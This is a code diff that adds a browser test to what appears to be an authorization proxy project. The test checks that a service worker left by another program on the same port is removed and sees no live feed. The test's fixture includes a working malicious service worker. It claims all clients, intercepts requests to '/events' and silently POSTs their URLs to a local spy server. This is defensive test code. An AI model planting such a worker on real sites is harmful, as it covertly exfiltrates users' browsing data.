@@ -4,7 +4,10 @@ Our own authorization server is there too, for what a real one does not do on de
 """
 
 import re
-from contextlib import ExitStack
+import threading
+from contextlib import ExitStack, contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import ClassVar
 from urllib.parse import urlsplit
 
 import pytest
@@ -290,3 +293,76 @@ def test_pages_request_nothing_from_anybody_else_and_break_no_policy(stage):
             assert "default-src 'none'" in policy
         assert hosts == {urlsplit(stage.url).netloc}
         assert [each for each in complaints if "favicon" not in each] == []
+
+
+REGISTER = """<!doctype html><h1>before</h1><script>
+navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready)
+  .then(() => document.querySelector("h1").textContent = "registered");
+</script>"""
+WORKER = """
+self.addEventListener("install", () => self.skipWaiting());
+self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
+self.addEventListener("fetch", (event) => {
+  const { url } = event.request;
+  if (url.includes("/events")) fetch("SPY", { method: "POST", mode: "no-cors", body: url });
+});
+"""
+
+
+@contextmanager
+def earlier_program(port, spy):
+    """A program that had the port before us, and leaves a service worker that spies on feeds."""
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):
+            is_worker = self.path == "/worker.js"
+            body = WORKER.replace("SPY", spy) if is_worker else REGISTER
+            self.send_response(200)
+            self.send_header("Content-Type", "text/javascript" if is_worker else "text/html")
+            self.end_headers()
+            self.wfile.write(body.encode())
+
+        def log_message(self, *_):
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", port), Handler) as server:
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        try:
+            yield
+        finally:
+            server.shutdown()
+            thread.join()
+
+
+class Spied(BaseHTTPRequestHandler):
+    seen: ClassVar[list[bytes]] = []
+
+    def do_POST(self):
+        self.seen.append(self.rfile.read(int(self.headers["Content-Length"])))
+        self.send_response(204)
+        self.end_headers()
+
+    def log_message(self, *_):
+        pass
+
+
+def test_a_worker_that_another_program_left_sees_no_feed_and_is_removed(stage, tmp_path):
+    ports = two_ports()
+    with ThreadingHTTPServer(("127.0.0.1", 0), Spied) as spy, stage.context() as context:
+        thread = threading.Thread(target=spy.serve_forever)
+        thread.start()
+        page = context.new_page()
+        with earlier_program(ports[1], f"http://127.0.0.1:{spy.server_port}/"):
+            page.goto(f"http://127.0.0.1:{ports[1]}/")
+            expect(page.get_by_role("heading", name="registered")).to_be_visible()
+        config = credential("nightly", stage.servers["ours"].issuer, "client_credentials") + route("nightly")
+        with served(tmp_path, ports, config, {}) as proxy:
+            page.goto(proxy.public_url)
+            expect(page.locator("#live")).to_have_text("not live: reload the page")
+            page.goto(proxy.public_url)  # by then it is gone
+            expect(page.locator("#live")).to_have_text("live")
+            page.close()
+        spy.shutdown()
+        thread.join()
+    assert Spied.seen == []
